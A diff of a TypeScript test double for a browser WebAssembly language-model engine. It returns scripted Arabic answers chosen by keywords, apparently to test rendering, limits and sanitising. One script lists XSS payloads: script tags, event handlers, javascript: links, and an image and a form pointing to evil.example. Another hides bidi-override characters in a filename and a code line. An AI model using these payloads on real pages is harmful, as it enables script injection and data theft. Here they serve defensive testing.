@@ -1,7 +1,6 @@
 /**
- * A stand-in for the WebAssembly engine, for tests of everything around it. It is never part of a build of the page or
- * of the package. It reads every byte of the source as the engine would, and answers from the scripts below, chosen by
- * words in the last message; nothing it says comes from a model.
+ * A test double of the WebAssembly engine, for tests of the page and the package. No build contains it. It reads every
+ * byte of the source as the engine does, and answers with a script below that is chosen by words in the last message.
  */
 import type { ByteSource, OnToken } from '../src/engine';
 
@@ -22,10 +21,19 @@ function failure(code: string, message: string): Error {
 
 export async function create(_optionsJson: string, onLost: (json: string) => void): Promise<string> {
   lost = onLost;
-  return JSON.stringify({ adapter: 'test double', paths: { storage: 'f32', reduce: 'workgroup', dot: 'scalar' }, missing: ['shader-f16 is missing: weights are read as packed f32'], maxBufferBytes: 268435456 });
+  return JSON.stringify({
+    adapter: 'test double',
+    paths: { storage: 'f32', reduce: 'workgroup', dot: 'scalar' },
+    missing: ['shader-f16 is missing: weights are read as packed f32'],
+    maxBufferBytes: 268435456,
+  });
 }
 
-export async function open(source: ByteSource, optionsJson: string, onProgress: (done: number, total: number) => void): Promise<string> {
+export async function open(
+  source: ByteSource,
+  optionsJson: string,
+  onProgress: (done: number, total: number) => void,
+): Promise<string> {
   stop = false;
   const options = JSON.parse(optionsJson) as { contextLength?: number; format?: string };
   const weights = source.files().filter((file) => /\.(gguf|safetensors)$/.test(file));
@@ -43,18 +51,65 @@ export async function open(source: ByteSource, optionsJson: string, onProgress: 
     }
   }
   open_ = true;
-  return JSON.stringify({ name: 'نموذج الاختبار', architecture: 'test', parameters: 1000, contextLength: options.contextLength ?? CONTEXT, format: options.format ?? 'auto', weightBytes: readBytes, cacheBytes: 0, hasChatTemplate: true });
+  return JSON.stringify({
+    name: 'نموذج الاختبار',
+    architecture: 'test',
+    parameters: 1000,
+    contextLength: options.contextLength ?? CONTEXT,
+    format: options.format ?? 'auto',
+    weightBytes: readBytes,
+    cacheBytes: 0,
+    hasChatTemplate: true,
+  });
 }
 
 const SCRIPTS: [RegExp, string | ((text: string) => string)][] = [
-  [/عربي ومختلط/, 'GPU هو معالج رسوميات، ويعمل مع **WebGPU** بسرعة 120 GB/s.\n\nفي السطر `let x = 1;` متغير، والرابط https://example.com/a?b=1 آمن.\n\n- البند الأول: السعر 25 USD\n- البند الثاني\n  1. فرعي أول\n  2. فرعي ثان\n\n| المدينة | السكان |\n|---|---|\n| القاهرة | 10 ملايين |\n| الرياض | 7 ملايين |\n\n> اقتباس قصير من كتاب.\n\nEnglish paragraph stays left to right.\n\n```python\ndef salam(name):\n    return f"مرحبا {name}"\n```\n'],
-  [/هجوم/, '<script>window.hacked = 1</script>\n\n<img src=x onerror="window.hacked=2">\n\n[اضغط](javascript:window.hacked=3)\n\n![صورة](https://evil.example/p.png?q=secret)\n\n[بيانات](data:text/html;base64,PHNjcmlwdD4=)\n\n<iframe srcdoc="<script>parent.hacked=4</script>"></iframe>\n\n<a href="https://ok.example/" onclick="window.hacked=5">رابط</a>\n\n[سليم](https://ok.example/page)\n\n<style>body{display:none}</style>\n\n<form action="https://evil.example"><input name=a></form>\n\n`<b>code</b>`\n\n[حرف](  \u0001java\nscript:alert(1))\n\n<svg><animate onbegin=window.hacked=6>'],
-  [/اتجاه/, 'ملف: \u202Egpj.exe\u202C نهاية\n\n```js\nif (admin\u202E\u2066) { ok() }\u2069\n```\n\nنص بعده ظاهر كما هو.'],
+  // Says what it is asked to say.
+  [/^اعرض:\n/, (text) => text.slice(text.indexOf('\n') + 1)],
+  [
+    /عربي ومختلط/,
+    'GPU هو معالج رسوميات، ويعمل مع **WebGPU** بسرعة 120 GB/s.\n\n' +
+      'في السطر `let x = 1;` متغير، والرابط https://example.com/a?b=1 آمن.\n\n' +
+      '- البند الأول: السعر 25 USD\n- البند الثاني\n  1. فرعي أول\n  2. فرعي ثان\n\n' +
+      '| المدينة | السكان |\n|---|---|\n| القاهرة | 10 ملايين |\n| الرياض | 7 ملايين |\n\n' +
+      '> اقتباس قصير من كتاب.\n\n' +
+      'English paragraph stays left to right.\n\n' +
+      '```python\ndef salam(name):\n    return f"مرحبا {name}"\n```\n',
+  ],
+  [
+    /هجوم/,
+    '<script>window.hacked = 1</script>\n\n' +
+      '<img src=x onerror="window.hacked=2">\n\n' +
+      '[اضغط](javascript:window.hacked=3)\n\n' +
+      '![صورة](https://evil.example/p.png?q=secret)\n\n' +
+      '[بيانات](data:text/html;base64,PHNjcmlwdD4=)\n\n' +
+      '<iframe srcdoc="<script>parent.hacked=4</script>"></iframe>\n\n' +
+      '<a href="https://ok.example/" onclick="window.hacked=5">رابط</a>\n\n' +
+      '[سليم](https://ok.example/page)\n\n' +
+      '<style>body{display:none}</style>\n\n' +
+      '<form action="https://evil.example"><input name=a></form>\n\n' +
+      '`<b>code</b>`\n\n' +
+      '[حرف](  \u0001java\nscript:alert(1))\n\n' +
+      '<svg><animate onbegin=window.hacked=6>',
+  ],
+  [
+    /اتجاه/,
+    'ملف: \u202Egpj.exe\u202C نهاية\n\n```js\nif (admin\u202E\u2066) { ok() }\u2069\n```\n\nنص بعده ظاهر كما هو.',
+  ],
   [/سطر طويل/, () => 'كلمة '.repeat(2_000_000)],
   [/أكواد كثيرة/, () => Array.from({ length: 400 }, (_, i) => `- بند **${i}** مع \`code\``).join('\n')],
+  [/متوسطة/, () => 'هذه قصة متوسطة، فيها جمل قليلة. '.repeat(90)],
   [/طويلة/, () => 'هذه قصة طويلة تمتد جملة بعد جملة حتى يوقفها القارئ. '.repeat(400)],
   [/الإصدار|مرة أخرى/, () => `إجابة رقم ${++answers}.`],
-  [/./s, 'أهلًا وسهلًا! يسعدني أن أساعدك.\n\nتُعدّ **القهوة العربية** جزءًا أصيلًا من الضيافة، وتُحضَّر على ثلاث مراحل:\n\n1. تُحمَّص الحبوب تحميصًا خفيفًا حتى تميل إلى الشقرة.\n2. تُطحن خشنةً وتُغلى في الدلّة مع *الهيل* نحو 10 دقائق.\n3. تُترك قليلًا لتصفو، ثم تُصبّ في الفناجين وتُقدَّم مع التمر.\n\nهل تودّ أن أذكر المقادير بالتفصيل؟'],
+  [
+    /./s,
+    'أهلًا وسهلًا! يسعدني أن أساعدك.\n\n' +
+      'تُعدّ **القهوة العربية** جزءًا أصيلًا من الضيافة، وتُحضَّر على ثلاث مراحل:\n\n' +
+      '1. تُحمَّص الحبوب تحميصًا خفيفًا حتى تميل إلى الشقرة.\n' +
+      '2. تُطحن خشنةً وتُغلى في الدلّة مع *الهيل* نحو 10 دقائق.\n' +
+      '3. تُترك قليلًا لتصفو، ثم تُصبّ في الفناجين وتُقدَّم مع التمر.\n\n' +
+      'هل تودّ أن أذكر المقادير بالتفصيل؟',
+  ],
 ];
 let answers = 0;
 
@@ -69,8 +124,8 @@ async function say(prompt: string, prefix: number, samplingJson: string, onToken
   if (/املأ الذاكرة/.test(prompt)) throw failure('OutOfMemory', 'the test asked for it');
   if (/سياق ممتلئ/.test(prompt)) throw failure('ContextFull', 'the test asked for it');
   const script = SCRIPTS.find(([pattern]) => pattern.test(prompt))![1];
-  const text = typeof script === 'string' ? script : script(prompt);
-  const size = text.length > 100_000 ? 200_000 : 5;
+  const text = /أعد الإعدادات/.test(prompt) ? samplingJson : typeof script === 'string' ? script : script(prompt);
+  const size = text.length > 100_000 ? 200_000 : prompt.startsWith('اعرض:') ? 200 : 5;
   const started = performance.now();
   let tokens = 0;
   let finishReason = 'stop';
@@ -81,21 +136,38 @@ async function say(prompt: string, prefix: number, samplingJson: string, onToken
       break;
     }
     onToken(text.slice(at, at + size), ++tokens);
-    await new Promise((done) => setTimeout(done, 4));
+    // As on a device that takes seconds for a token.
+    await new Promise((done) => setTimeout(done, /ببطء/.test(prompt) ? 3000 : 4));
   }
   const decodeMs = performance.now() - started;
   speed = { prefillTokensPerSecond: 1000, decodeTokensPerSecond: (tokens * 1000) / decodeMs };
-  return JSON.stringify({ finishReason, usage: { promptTokens: prefix, completionTokens: tokens, contextUsed: Math.min(CONTEXT, prefix + tokens), contextLength: CONTEXT, prefillMs: 20, decodeMs } });
+  return JSON.stringify({
+    finishReason,
+    usage: {
+      promptTokens: prefix,
+      completionTokens: tokens,
+      contextUsed: Math.min(CONTEXT, prefix + tokens),
+      contextLength: CONTEXT,
+      prefillMs: 20,
+      decodeMs,
+    },
+  });
 }
 
 export function chat(messagesJson: string, samplingJson: string, onToken: OnToken): Promise<string> {
   const messages = JSON.parse(messagesJson) as { role: string; content: string }[];
   const length = messages.reduce((sum, message) => sum + Math.ceil(message.content.length / 3), 0);
-  return say(messages.at(-1)!.content, length, samplingJson, onToken);
+  const last = messages.at(-1)!.content;
+  if (/سياق ضيق/.test(last) && messages.length > 1) return Promise.reject(failure('ContextFull', 'too long'));
+  return say(/أعد العدد/.test(last) ? `اعرض:\nرسائل: ${messages.length}` : last, length, samplingJson, onToken);
 }
 
 export function generate(prompt: string, samplingJson: string, onToken: OnToken): Promise<string> {
   return say(prompt, Math.ceil(prompt.length / 3), samplingJson, onToken);
+}
+
+export function generateFromIds(ids: Uint32Array, samplingJson: string, onToken: OnToken): Promise<string> {
+  return say('تهيئة', ids.length, samplingJson, onToken);
 }
 
 export function abort(): void {
@@ -104,6 +176,10 @@ export function abort(): void {
 
 export function tokenize(text: string): Uint32Array {
   return Uint32Array.from(text, (character) => character.codePointAt(0)!);
+}
+
+export function detokenize(ids: Uint32Array): string {
+  return String.fromCodePoint(...ids);
 }
 
 export async function loadAdapter(source: ByteSource, optionsJson: string): Promise<string> {
